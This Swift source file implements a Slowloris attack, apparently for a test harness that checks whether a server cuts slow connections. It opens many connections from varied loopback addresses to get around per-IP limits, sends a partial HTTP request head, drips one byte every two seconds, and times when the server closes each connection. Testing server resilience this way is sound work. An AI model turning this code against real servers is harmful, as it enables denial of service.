import Foundation
import HTTPClient

/// `count` connections from 127.0.0.2 and up (`perAddress` from each, so the per-IP limit does
/// not stop them), each sending the start of a request head and then one byte every 2 s. A
/// refusal is the server closing the connection; its time is counted from the connect.
struct Slowloris: Attack {
    let count: Int
    let perAddress: Int
    let dripInterval = 2.0

    /// The default head deadline (10 s), a drip interval and some slack.
    var minimumSeconds: Double { 14 }

    private struct Dripper {
        let socket: BlockingSocket
        var fd: Int32 { socket.descriptor }
        let openedAt: Double
        var closedAt: Double?
    }

    func run(_ target: AttackTarget) -> AttackOutcome {
        raiseOpenFileLimit(to: count * 2 + 256)
        var outcome = AttackOutcome()
        var drippers: [Dripper] = []
        let head = Array("GET /state HTTP/1.1\r\nHost: \(target.authority)\r\nX-Drip: ".utf8)
        for i in 0..<count {
            outcome.attempts += 1
            let n = 2 + i / max(1, perAddress)
            let source = "127.\(n >> 16 & 0xFF).\(n >> 8 & 0xFF).\(n & 0xFF)"
            guard let socket = outcome.connect(to: target, from: source) else { continue }
            let opened = monotonicNow()
            try? socket.send(head)
            drippers.append(Dripper(socket: socket, openedAt: opened))
        }
        var nextDrip = monotonicNow() + dripInterval
        var fds = [pollfd]()
        while monotonicNow() < target.deadline, drippers.contains(where: { $0.closedAt == nil }) {
            let now = monotonicNow()
            if now >= nextDrip {
                for d in drippers where d.closedAt == nil {
                    var byte = UInt8(ascii: "a")
                    _ = send(d.fd, &byte, 1, Int32(MSG_NOSIGNAL | MSG_DONTWAIT))
                }
                nextDrip += dripInterval
            }
            let open = drippers.indices.filter { drippers[$0].closedAt == nil }
            fds = open.map { pollfd(fd: drippers[$0].fd, events: Int16(POLLIN) | pollRDHUP, revents: 0) }
            guard poll(&fds, nfds_t(fds.count), 100) > 0 else { continue }
            let after = monotonicNow()
            for (k, index) in open.enumerated() where fds[k].revents != 0 {
                var byte: UInt8 = 0
                if recv(drippers[index].fd, &byte, 1, Int32(MSG_DONTWAIT)) <= 0 {
                    drippers[index].closedAt = after
                }
            }
        }
        for d in drippers {
            if let closed = d.closedAt { outcome.refusalSeconds.append(closed - d.openedAt) }
            d.socket.close()
        }
        let stillOpen = drippers.filter { $0.closedAt == nil }.count
        if stillOpen > 0 { outcome.wrong.append("\(stillOpen) still open at the end") }
        outcome.note = "\(drippers.count) connected, \(drippers.count - stillOpen) cut"
        return outcome
    }
}

/// Raises this process's soft open-file limit toward `count`, as far as the hard limit allows.
func raiseOpenFileLimit(to count: Int) {
    var limit = rlimit()
    guard getrlimit(Int32(RLIMIT_NOFILE.rawValue), &limit) == 0, limit.rlim_cur < rlim_t(count) else { return }
    limit.rlim_cur = min(rlim_t(count), limit.rlim_max)
    _ = setrlimit(Int32(RLIMIT_NOFILE.rawValue), &limit)
}
